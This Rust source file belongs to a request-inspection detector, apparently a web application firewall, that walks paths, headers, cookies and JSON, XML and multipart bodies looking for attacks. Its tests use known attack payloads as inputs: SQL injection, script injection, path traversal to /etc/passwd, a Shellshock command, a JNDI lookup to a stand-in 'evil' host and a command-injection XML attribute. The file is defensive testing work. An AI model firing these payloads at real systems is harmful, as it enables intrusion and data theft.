//! Splits a request into the fields the detector reads: the path, each query and form
//! argument (names too), cookies, selected headers, and JSON or XML bodies field by field.

use std::borrow::Cow;

use serde::de::{self, DeserializeSeed, IgnoredAny, MapAccess, SeqAccess, Visitor};

use super::{Detector, Finding, Source};

/// Headers that carry no user-controlled text worth inspecting, or secrets that must not be
/// matched and reported.
const SKIPPED_HEADERS: &[&str] = &[
    "accept",
    "accept-encoding",
    "accept-language",
    "authorization",
    "cache-control",
    "connection",
    "content-length",
    "content-type",
    "host",
    "if-match",
    "if-modified-since",
    "if-none-match",
    "origin",
    "pragma",
    "proxy-authorization",
    "sec-fetch-dest",
    "sec-fetch-mode",
    "sec-fetch-site",
    "sec-fetch-user",
    "te",
    "upgrade-insecure-requests",
    "x-request-id",
    "x-twilio-signature",
];

/// A request as the detector reads it. `target` is the request-target as sent (path and
/// query, still percent-encoded).
pub struct RequestView<'a> {
    pub target: &'a str,
    pub headers: Vec<(&'a str, &'a [u8])>,
    pub body: &'a [u8],
    /// JSON field names whose values are binary (base64 audio) and are not inspected.
    pub binary_fields: &'a [&'a str],
}

impl Detector {
    /// The first finding anywhere in the request.
    pub fn inspect(&self, request: &RequestView<'_>) -> Option<Finding> {
        let found = |source: Source, location: &dyn Fn() -> String, value: &str| {
            self.scan(source, value, false).map(|(class, rule)| Finding { class, rule, location: location() })
        };
        let (path, query) = request.target.split_once('?').unwrap_or((request.target, ""));
        if let Some(hit) = found(Source::Path, &|| "path".into(), path) {
            return Some(hit);
        }
        if let Some(hit) = self.inspect_form(query, "query") {
            return Some(hit);
        }
        let mut content_type = "";
        let mut multipart_boundary = None;
        for (name, value) in &request.headers {
            // HTTP/2 and the `http` crate's names are lowercase already.
            let name: Cow<'_, str> = if name.bytes().any(|b| b.is_ascii_uppercase()) {
                name.to_ascii_lowercase().into()
            } else {
                (*name).into()
            };
            let value = String::from_utf8_lossy(value);
            if name == "content-type" {
                content_type = if value.contains("json") {
                    "json"
                } else if value.contains("xml") {
                    "xml"
                } else if let Some(boundary) = value.split("boundary=").nth(1) {
                    multipart_boundary = Some(boundary.trim_matches('"').to_owned());
                    "multipart"
                } else {
                    "form"
                };
            }
            if SKIPPED_HEADERS.contains(&name.as_ref()) {
                continue;
            }
            let hit = match name.as_ref() {
                "cookie" => self.inspect_cookies(&value),
                "user-agent" => found(Source::UserAgent, &|| "header:user-agent".into(), &value),
                "referer" => found(Source::Referer, &|| "header:referer".into(), &value),
                _ => found(Source::Header, &|| format!("header:{name}"), &value),
            };
            if hit.is_some() {
                return hit;
            }
        }
        if request.body.is_empty() {
            return None;
        }
        let body = || String::from_utf8_lossy(request.body);
        match content_type {
            "json" => {
                let mut json = serde_json::Deserializer::from_slice(request.body);
                let walk = JsonWalk { detector: self, binary: request.binary_fields };
                match walk.deserialize(&mut json) {
                    Ok(Some(finding)) => Some(Finding { location: format!("body{}", finding.location), ..finding }),
                    Ok(None) if json.end().is_ok() => None,
                    // Not JSON after all: read whole, as a lenient back end might.
                    _ => found(Source::ArgValue, &|| "body".into(), &body()),
                }
            }
            "xml" => self.inspect_xml(&body()),
            "multipart" => multipart_boundary.and_then(|boundary| self.inspect_multipart(&body(), &boundary)),
            // A trailing line break ends the body, not the last field.
            _ => self.inspect_form(body().trim_end_matches(['\r', '\n']), "body"),
        }
    }

    fn inspect_form(&self, form: &str, place: &str) -> Option<Finding> {
        for pair in form.split('&').filter(|p| !p.is_empty()) {
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            let location = || format!("{place}:{}", super::decode(name, true));
            if let Some((class, rule)) =
                self.scan(Source::ArgName, name, true).or_else(|| self.scan(Source::ArgValue, value, true))
            {
                return Some(Finding { class, rule, location: location() });
            }
        }
        None
    }

    /// Each part's field name, file name and content; the rest of the part headers is the
    /// client's framing, not user input.
    fn inspect_multipart(&self, body: &str, boundary: &str) -> Option<Finding> {
        body.split(&format!("--{boundary}")).find_map(|part| {
            let (head, content) = part.split_once("\r\n\r\n").or_else(|| part.split_once("\n\n")).unwrap_or(("", part));
            let quoted = |key: &str| head.split(key).nth(1).and_then(|rest| rest.split('"').nth(1));
            let fields = [(Source::ArgName, quoted(" name=")), (Source::ArgValue, quoted("filename="))];
            fields
                .into_iter()
                .filter_map(|(source, value)| Some((source, value?)))
                .chain([(Source::ArgValue, content.trim_end_matches(['\r', '\n']))])
                .find_map(|(source, value)| self.scan(source, value, false))
                .map(|(class, rule)| Finding { class, rule, location: "body".into() })
        })
    }

    fn inspect_cookies(&self, header: &str) -> Option<Finding> {
        for pair in header.split(';').map(str::trim).filter(|p| !p.is_empty()) {
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            if let Some((class, rule)) =
                self.scan(Source::Cookie, name, false).or_else(|| self.scan(Source::Cookie, value, false))
            {
                return Some(Finding { class, rule, location: format!("cookie:{}", super::decode(name, true)) });
            }
        }
        None
    }

    /// Attribute values and text of an XML body; a body that is not well-formed is read whole.
    fn inspect_xml(&self, body: &str) -> Option<Finding> {
        use quick_xml::events::Event;
        let mut reader = quick_xml::Reader::from_str(body);
        loop {
            let text = match reader.read_event() {
                Ok(Event::Start(tag) | Event::Empty(tag)) => {
                    let hit = tag.attributes().flatten().find_map(|attribute| {
                        let value = attribute.value;
                        self.scan(
                            Source::ArgValue,
                            &quick_xml::escape::unescape(&value).unwrap_or(value.clone()),
                            false,
                        )
                    });
                    if let Some((class, rule)) = hit {
                        return Some(Finding { class, rule, location: "body".into() });
                    }
                    continue;
                }
                Ok(Event::Text(text)) => AsRef::<str>::as_ref(&text).to_owned(),
                Ok(Event::CData(text)) => AsRef::<str>::as_ref(&text).to_owned(),
                Ok(Event::Eof) => return None,
                Ok(_) => continue,
                Err(_) => {
                    let hit = self.scan(Source::ArgValue, body, false);
                    return hit.map(|(class, rule)| Finding { class, rule, location: "body".into() });
                }
            };
            let text = quick_xml::escape::unescape(&text).map(|t| t.into_owned()).unwrap_or(text);
            if let Some((class, rule)) = self.scan(Source::ArgValue, &text, false) {
                return Some(Finding { class, rule, location: "body".into() });
            }
        }
    }
}

/// Reads a JSON document as serde_json parses it, scanning each name and string on the way:
/// no tree is built (building and dropping one took most of a body's inspection time). Nesting
/// is bounded by serde_json's recursion limit; a deeper document is read whole, as malformed.
#[derive(Clone, Copy)]
struct JsonWalk<'a> {
    detector: &'a Detector,
    /// Names of fields whose values are binary (base64 audio) and are not inspected.
    binary: &'a [&'a str],
}

impl JsonWalk<'_> {
    fn found(self, source: Source, text: &str) -> Option<Finding> {
        let (class, rule) = self.detector.scan(source, text, false)?;
        Some(Finding { class, rule, location: String::new() })
    }
}

/// The location of a finding one level down, as a JSON pointer.
fn under(key: &dyn std::fmt::Display, finding: Finding) -> Finding {
    Finding { location: format!("/{key}{}", finding.location), ..finding }
}

impl<'de> DeserializeSeed<'de> for JsonWalk<'_> {
    type Value = Option<Finding>;

    fn deserialize<D: de::Deserializer<'de>>(self, deserializer: D) -> Result<Self::Value, D::Error> {
        deserializer.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for JsonWalk<'_> {
    type Value = Option<Finding>;

    fn expecting(&self, formatter: &mut std::fmt::Formatter) -> std::fmt::Result {
        formatter.write_str("a JSON value")
    }

    fn visit_str<E>(self, text: &str) -> Result<Self::Value, E> {
        Ok(self.found(Source::ArgValue, text))
    }

    fn visit_bool<E>(self, _: bool) -> Result<Self::Value, E> {
        Ok(None)
    }

    fn visit_i64<E>(self, _: i64) -> Result<Self::Value, E> {
        Ok(None)
    }

    fn visit_u64<E>(self, _: u64) -> Result<Self::Value, E> {
        Ok(None)
    }

    fn visit_f64<E>(self, _: f64) -> Result<Self::Value, E> {
        Ok(None)
    }

    fn visit_unit<E>(self) -> Result<Self::Value, E> {
        Ok(None)
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut items: A) -> Result<Self::Value, A::Error> {
        let mut index = 0usize;
        while let Some(found) = items.next_element_seed(self)? {
            if let Some(finding) = found {
                // The rest is read (not inspected) so that the document still parses to its end.
                while items.next_element::<IgnoredAny>()?.is_some() {}
                return Ok(Some(under(&index, finding)));
            }
            index += 1;
        }
        Ok(None)
    }

    fn visit_map<A: MapAccess<'de>>(self, mut fields: A) -> Result<Self::Value, A::Error> {
        while let Some(name) = fields.next_key_seed(Name)? {
            let found = match self.found(Source::ArgName, &name) {
                None if !self.binary.contains(&name.as_ref()) => fields.next_value_seed(self)?,
                found => fields.next_value::<IgnoredAny>().map(|_| found)?,
            };
            if let Some(finding) = found {
                while fields.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                return Ok(Some(under(&name, finding)));
            }
        }
        Ok(None)
    }
}

/// A member name, borrowed from the document when it has no escapes.
struct Name;

impl<'de> DeserializeSeed<'de> for Name {
    type Value = Cow<'de, str>;

    fn deserialize<D: de::Deserializer<'de>>(self, deserializer: D) -> Result<Self::Value, D::Error> {
        deserializer.deserialize_str(self)
    }
}

impl<'de> Visitor<'de> for Name {
    type Value = Cow<'de, str>;

    fn expecting(&self, formatter: &mut std::fmt::Formatter) -> std::fmt::Result {
        formatter.write_str("a member name")
    }

    fn visit_borrowed_str<E>(self, name: &'de str) -> Result<Self::Value, E> {
        Ok(Cow::Borrowed(name))
    }

    fn visit_str<E>(self, name: &str) -> Result<Self::Value, E> {
        Ok(Cow::Owned(name.to_owned()))
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::detector::{AttackClass, Mode};

    fn detector() -> Detector {
        Detector::new(|_| Mode::Block)
    }

    fn inspect(target: &str, headers: &[(&str, &str)], body: &str, binary: &[&str]) -> Option<Finding> {
        let headers = headers.iter().map(|(k, v)| (*k, v.as_bytes())).collect();
        detector().inspect(&RequestView { target, headers, body: body.as_bytes(), binary_fields: binary })
    }

    #[test]
    fn names_the_json_field_it_found_a_payload_in() {
        let body = r#"{"customer": {"notes": ["fine", "1' OR '1'='1"]}}"#;
        let hit = inspect("/api/v1/calls", &[("content-type", "application/json")], body, &[]).unwrap();
        assert_eq!(hit.class, AttackClass::SqlInjection);
        assert_eq!(hit.location, "body/customer/notes/1");
    }

    #[test]
    fn reads_every_json_field_however_deep_or_repeated() {
        let json = |body: &str| inspect("/x", &[("content-type", "application/json")], body, &[]);
        let location = |body: &str| json(body).map(|hit| hit.location);
        let script = "<script>alert(1)</script>";
        assert_eq!(location(&format!(r#"{{"a": ["ok", "{script}", {{"b": 1}}], "c": "d"}}"#)).unwrap(), "body/a/1");
        // A back end that keeps the first of two names must not get a payload past us.
        assert_eq!(location(&format!(r#"{{"a": "{script}", "a": "fine"}}"#)).unwrap(), "body/a");
        assert_eq!(location(&format!(r#"{{"n\u0061me": "{script}"}}"#)).unwrap(), "body/name");
        let deep = format!("{}\"{script}\"{}", "[".repeat(60), "]".repeat(60));
        assert_eq!(location(&deep).unwrap(), format!("body{}", "/0".repeat(60)));
        // Deeper than the parser follows, or not JSON at all: read whole.
        let deeper = format!("{}\"{script}\"{}", "[".repeat(200), "]".repeat(200));
        assert_eq!(location(&deeper).unwrap(), "body");
        assert_eq!(location(&format!(r#"{{"a": "{script}""#)).unwrap(), "body");
        assert!(json(r#"{"a": [1, 2.5, true, null, "ok", {"b": "fine"}]}"#).is_none());
    }

    #[test]
    fn skips_fields_declared_binary() {
        let body = r#"{"audio": "<script>alert(1)</script>"}"#;
        assert!(inspect("/x", &[("content-type", "application/json")], body, &["audio"]).is_none());
        assert!(inspect("/x", &[("content-type", "application/json")], body, &[]).is_some());
    }

    #[test]
    fn reads_query_cookies_headers_and_path() {
        let hit = inspect("/x?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "", &[]).unwrap();
        assert_eq!((hit.class, hit.location.as_str()), (AttackClass::Xss, "query:q"));
        let hit = inspect("/x", &[("cookie", "a=1; pref=../../etc/passwd")], "", &[]).unwrap();
        assert_eq!((hit.class, hit.location.as_str()), (AttackClass::PathTraversal, "cookie:pref"));
        let hit = inspect("/x", &[("user-agent", "() { :; }; /bin/bash -c id")], "", &[]).unwrap();
        assert_eq!(hit.class, AttackClass::Shellshock);
        let hit = inspect("/x", &[("x-api-version", "${jndi:ldap://evil/a}")], "", &[]).unwrap();
        assert_eq!(hit.class, AttackClass::Jndi);
        assert!(inspect("/x", &[("authorization", "Bearer ' or 1=1 --")], "", &[]).is_none());
        let hit = inspect("/files/..%2f..%2fetc%2fpasswd", &[], "", &[]).unwrap();
        assert_eq!(hit.location, "path");
    }

    #[test]
    fn reads_multipart_names_and_xml_attributes() {
        let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\ndata\r\n--b--";
        let hit = inspect("/x", &[("content-type", "multipart/form-data; boundary=b")], body, &[]).unwrap();
        assert_eq!(hit.class, AttackClass::PathTraversal);
        let xml = r#"<?xml version="1.0"?><a probe="; cat /etc/passwd">ok</a>"#;
        assert!(inspect("/x", &[("content-type", "application/xml")], xml, &[]).is_some());
    }

    #[test]
    fn a_class_switched_off_is_not_reported() {
        let detector = Detector::new(|class| if class == AttackClass::Xss { Mode::Off } else { Mode::Block });
        let view =
            RequestView { target: "/x?q=<script>alert(1)</script>", headers: vec![], body: b"", binary_fields: &[] };
        assert_ne!(detector.inspect(&view).map(|f| f.class), Some(AttackClass::Xss));
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(200))]
        #[test]
        fn never_panics_on_arbitrary_requests(
            target in "\\PC{0,80}",
            header in "\\PC{0,80}",
            body in proptest::collection::vec(any::<u8>(), 0..300),
            kind in prop::sample::select(vec!["application/json", "application/xml", "multipart/form-data; boundary=x", "text/plain"]),
        ) {
            let view = RequestView {
                target: &target,
                headers: vec![("content-type", kind.as_bytes()), ("cookie", header.as_bytes()), ("referer", header.as_bytes())],
                body: &body,
                binary_fields: &[],
            };
            let _ = detector().inspect(&view);
        }
    }
}
